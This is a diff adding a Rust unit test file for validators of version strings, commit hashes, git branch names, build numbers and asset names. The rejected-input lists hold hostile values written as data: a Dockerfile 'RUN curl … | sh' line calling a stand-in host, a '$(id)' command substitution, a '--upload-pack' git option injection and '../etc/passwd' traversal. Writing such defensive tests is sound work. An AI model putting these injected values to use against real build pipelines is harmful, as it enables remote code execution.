@@ -1,0 +1,120 @@
+use super::*;
+
+#[test]
+fn versions() {
+    for ok in [
+        "9.0.2",
+        "9.0.0-preview.1.24080.9",
+        "1.0.0+build.5",
+        "v1.2_3",
+        "8",
+    ] {
+        assert!(version(ok).is_ok(), "{ok}");
+    }
+    for bad in [
+        "",
+        "9.0.2\nRUN curl http://evil.invalid/x | sh\n#",
+        "9.0.2 ",
+        " 9.0.2",
+        "9.0.2\"/><x",
+        "-1.0",
+        "1.0$(id)",
+        "1.0\u{0}",
+        &"9".repeat(MAX_VERSION + 1),
+    ] {
+        assert!(version(bad).is_err(), "{bad:?}");
+    }
+}
+
+#[test]
+fn commits() {
+    for ok in ["abc1234", &"a".repeat(40), &"0".repeat(64)] {
+        assert!(commit(ok).is_ok(), "{ok}");
+    }
+    for bad in ["abc123", "xyz1234", &"a".repeat(65), "abc1234\n", ""] {
+        assert!(commit(bad).is_err(), "{bad:?}");
+    }
+}
+
+#[test]
+fn branches_follow_git_ref_format() {
+    for ok in [
+        "main",
+        "release/9.0",
+        "feature/x-y_z",
+        "a.b",
+        "release/9.0-staging",
+    ] {
+        assert!(branch(ok).is_ok(), "{ok}");
+    }
+    for bad in [
+        "",
+        "../x",
+        "a..b",
+        "x.lock",
+        "a/x.lock/b",
+        "@{1}",
+        "ma@{in",
+        "-x",
+        "--upload-pack=x",
+        "main ",
+        "a b",
+        "a*",
+        "a?",
+        "a[",
+        "a~1",
+        "a^",
+        "a:b",
+        "a\\b",
+        "/a",
+        "a/",
+        "a//b",
+        "a.",
+        ".a",
+        "a/.b",
+        "@",
+        "a\u{7f}",
+        "a\tb",
+    ] {
+        assert!(branch(bad).is_err(), "{bad:?}");
+    }
+    assert!(branch(&"a".repeat(MAX_BRANCH + 1)).is_err());
+}
+
+#[test]
+fn build_numbers_and_asset_names() {
+    assert!(build_number("20261101.3").is_ok());
+    assert!(build_number(&"1".repeat(2_000_000)).is_err());
+    assert!(build_number("1 2").is_err());
+    for ok in [
+        "Contoso.Runtime",
+        "assets/symbols/x.zip",
+        "contoso/runtime-deps",
+    ] {
+        assert!(asset_name(ok).is_ok(), "{ok}");
+    }
+    for bad in ["a b", "../etc/passwd", "a//b", "a\nb", "x/..", ""] {
+        assert!(asset_name(bad).is_err(), "{bad:?}");
+    }
+}
+
+#[test]
+fn names() {
+    for ok in ["runtime-to-sdk", "product-11-dev", "a", "a.b"] {
+        assert!(name("subscription", ok).is_ok(), "{ok}");
+    }
+    for bad in ["Runtime", "a_b", "-a", "a-", "", "a b", &"a".repeat(254)] {
+        assert!(name("subscription", bad).is_err(), "{bad:?}");
+    }
+}
+
+#[test]
+fn refusals_quote_a_short_escaped_prefix_only() {
+    let hostile = format!("1.0\n{}", "x".repeat(10_000));
+    let err = version(&hostile).unwrap_err();
+    let text = err.to_string();
+    assert!(text.starts_with("version \"1.0\\n"), "{text}");
+    assert!(text.len() < 200, "{text}");
+    assert!(!text.contains('\n'), "{text}");
+    assert_eq!(err.in_field("assets[2].version").field, "assets[2].version");
+}
